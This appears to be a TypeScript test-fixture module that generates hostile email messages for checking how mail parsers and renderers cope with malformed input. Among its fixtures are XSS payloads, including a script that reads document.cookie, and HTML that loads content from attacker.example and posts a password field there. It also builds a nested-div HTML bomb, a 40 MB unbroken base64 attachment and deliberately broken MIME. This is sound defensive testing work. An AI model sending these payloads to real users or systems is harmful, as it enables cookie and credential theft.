/** The bytes of hostile mail: what parsers, renderers and file systems trip over. */
import { mailDate } from "../mail/stamps";
import type { GeneratedMessage } from "./message";

const nested = 100_000;
const largeBytes = 40_000_000;

/** Header values as somebody writes them who follows no rule; only line ends of our own making. */
function head({ from, fromName, recipients, subject, messageId, at }: GeneratedMessage, type: string): string {
  return [
    `From: ${fromName} <${from}>`,
    `To: ${recipients.join(", ")}`,
    `Subject: ${subject}`,
    `Date: ${mailDate(at)}`,
    `Message-ID: ${messageId}`,
    "MIME-Version: 1.0",
    `Content-Type: ${type}`,
    "",
    "",
  ].join("\r\n");
}

const html = (message: GeneratedMessage, body: string) => Buffer.from(`${head(message, "text/html; charset=utf-8")}${body}\r\n`, "utf8");

const pages: Record<string, string> = {
  script: `<html><body onload="alert(1)"><script>alert(document.cookie)</script><a href="javascript:alert(2)">Open</a></body></html>`,
  "remote-content": `<html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/a.css"></head><body><img src="https://attacker.example/pixel.gif"><iframe src="https://attacker.example/"></iframe><form action="https://attacker.example/" method="post"><input name="password"></form></body></html>`,
};

function attached(message: GeneratedMessage, name: string, content: string): Buffer {
  const parts = [
    `--part\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n`,
    `--part\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n`,
    `Content-Disposition: attachment; filename="${name}"\r\n\r\n${content}\r\n--part--\r\n`,
  ];
  return Buffer.from(head(message, `multipart/mixed; boundary="part"`) + parts.join(""), "utf8");
}

/** Forty megabytes of file, in base64 without line ends, which is forbidden and seen. */
const large = () => Buffer.alloc(largeBytes, "cutover ").toString("base64");

/** A boundary that never comes, base64 that is none, a nested part that contains itself, bytes that are no UTF-8. */
function broken(message: GeneratedMessage): Buffer {
  const text = `--other\r\nContent-Type: multipart/mixed; boundary="other"\r\n\r\n--other\r\nContent-Type: text/plain; charset=no-such-charset\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!! not base64 !!!!\r\nNo-Colon-Here\r\n--other`;
  const start = Buffer.from(head(message, `multipart/mixed; boundary="never`) + text, "utf8");
  return Buffer.concat([start, Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x00, 0x80]), Buffer.from("\r\n.\r\n")]);
}

export function hostileBytes(name: string, message: GeneratedMessage): Buffer {
  if (name === "html-bomb") return html(message, `${"<div>".repeat(nested)}deep${"</div>".repeat(nested)}`);
  if (name === "big-attachment") return attached(message, message.attachment ?? "", large());
  if (name === "broken-mime") return broken(message);
  if (message.attachment !== null) return attached(message, message.attachment, Buffer.from("MZ not a program").toString("base64"));
  return html(message, pages[name] ?? "<p>Read me.</p>");
}
